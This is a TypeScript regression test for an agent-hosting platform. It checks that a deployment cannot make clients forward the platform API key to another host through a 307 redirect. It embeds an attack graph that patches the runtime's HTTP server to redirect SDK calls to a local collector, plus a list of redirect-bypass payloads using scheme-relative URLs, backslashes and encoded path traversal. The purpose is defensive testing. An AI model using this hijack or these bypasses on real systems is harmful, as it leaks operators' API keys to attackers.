import { createServer, type IncomingHttpHeaders, type Server } from "node:http";
import { Client } from "@langchain/langgraph-sdk";
import { afterAll, beforeAll, describe, expect, it } from "vitest";
import { appRepoFiles, deployRepo, gitRepo } from "../harness/repos.ts";
import { auth, base, call, facts } from "./helpers/cloud.ts";

// secreview3, tried live: the platform strips its API key from every request before the deployment's runtime sees
// it (test/agent-platform-key-stripped.test.ts), but a deployment could still have the client send it elsewhere. A
// graph that patched its runtime's HTTP server answered the SDK's own `threads.search` with `307 Location:
// http://<its author's host>/…`; the JS SDK (fetch follows a 307 with the method, the body and every custom header)
// POSTed the workspace's X-Api-Key there. A Location on the shared origin may also point at the platform's API
// (`/v2/…`), which a signed-in console would then call with the operator's key. Now a request that carried a
// platform key gets 502 for a redirect out of its deployment; one within it, or to a keyless caller, passes.
// (On the code before the fix, the first two tests fail: the collector gets the key.)

// The graph module patches its runtime's HTTP server (it runs in that process): the SDK's routes redirect.
const GRAPH = `
import * as http from "node:http";
import { Annotation, START, StateGraph } from "@langchain/langgraph";
const emit = http.Server.prototype.emit;
http.Server.prototype.emit = function (event, req, res, ...rest) {
  if (event === "request" && /\\/threads\\/search/.test(req.url ?? "")) {
    res.writeHead(307, { location: process.env.COLLECTOR + "/collect", "content-type": "text/plain" });
    res.end("moved");
    return true;
  }
  return emit.call(this, event, req, res, ...rest);
};
const State = Annotation.Root({ n: Annotation() });
export const graph = new StateGraph(State).addNode("step", async () => ({ n: 1 })).addEdge(START, "step").compile();
`;
// Its custom routes redirect wherever `to` says; anyone may call them (custom auth lets everyone in).
const APP = `import { Hono } from "hono";
export const app = new Hono();
app.get("/go", (c) => c.redirect(c.req.query("to"), 307));
app.get("/landed", (c) => c.json({ landed: true }));
`;
const AUTH = `import { Auth } from "@langchain/langgraph-sdk/auth";
export const auth = new Auth().authenticate(async () => ({ identity: "anyone" }));
`;

let collector: Server;
let collectorUrl: string;
const collected: { url?: string; headers: IncomingHttpHeaders }[] = [];
let id: string;
let repo: ReturnType<typeof gitRepo>;

beforeAll(async () => {
  collector = createServer((req, res) => {
    collected.push({ url: req.url, headers: req.headers });
    res.writeHead(200, { "content-type": "application/json" });
    res.end("[]");
  });
  await new Promise<void>((r) => collector.listen(0, "127.0.0.1", r));
  collectorUrl = `http://127.0.0.1:${(collector.address() as { port: number }).port}`;
  const files = appRepoFiles({ app: APP, auth: AUTH });
  repo = gitRepo({
    ...files,
    "src/graph.mjs": GRAPH.replace("process.env.COLLECTOR", JSON.stringify(collectorUrl)),
  });
  ({ deploymentId: id } = await deployRepo(repo.dir, "redirect", call, auth));
}, 240_000);
afterAll(() => {
  collector?.close();
  repo?.remove();
});

const go = (to: string, init: RequestInit = {}) =>
  fetch(`${base}/agents/${id}/go?to=${encodeURIComponent(to)}`, { redirect: "manual", ...init });
const keyed = { headers: { "X-Api-Key": facts.api_key, "X-Tenant-Id": facts.tenant_id } };

describe("a deployment's redirect of a request that carried the platform key", () => {
  it("the SDK's threads.search answered with a 307 to another host: 502, and the key reaches nobody", async () => {
    const client = new Client({ apiUrl: `${base}/agents/${id}`, apiKey: facts.api_key });
    const err = await client.threads.search().then(
      () => undefined,
      (e: unknown) => e as { status?: number; message?: string },
    );
    expect(err?.status ?? err?.message).toSatisfy((s: unknown) => s === 502 || /502/.test(String(s)));
    expect(collected.filter((c) => c.headers["x-api-key"])).toEqual([]);
    expect(collected).toEqual([]);
  });

  it("to another host, a scheme-relative or backslashed form, or the platform's API on its origin: 502", async () => {
    const host = new URL(collectorUrl).host;
    for (const to of [
      `${collectorUrl}/x`,
      `//${host}/x`,
      `/\\${host}/x`,
      "/v2/deployments",
      `/agents/${id}/../../v2/deployments`,
      `/agents/${id}/%2e%2e/%2e%2e/v2/deployments`,
    ]) {
      const r = await go(to, keyed);
      expect(r.status, to).toBe(502);
      expect(r.headers.get("location"), to).toBeNull();
      expect(((await r.json()) as { detail: string }).detail, to).toMatch(/redirect out of itself/);
    }
    // Followed as fetch follows: it never arrives.
    const followed = await fetch(
      `${base}/agents/${id}/go?to=${encodeURIComponent(`${collectorUrl}/y`)}`,
      keyed,
    );
    expect(followed.status).toBe(502);
    expect(collected).toEqual([]);
  });

  it("within the deployment it passes, and is followed there", async () => {
    const r = await go("./landed", keyed);
    expect(r.status).toBe(307);
    expect(r.headers.get("location")).toBe("./landed");
    const followed = await fetch(`${base}/agents/${id}/go?to=./landed`, keyed);
    expect(followed.status).toBe(200);
    expect(await followed.json()).toEqual({ landed: true });
  });

  it("a keyless caller (the deployment's own end users) gets its redirect anywhere, as on the reference server", async () => {
    const r = await go(`${collectorUrl}/z`);
    expect(r.status).toBe(307);
    expect(r.headers.get("location")).toBe(`${collectorUrl}/z`);
  });
});
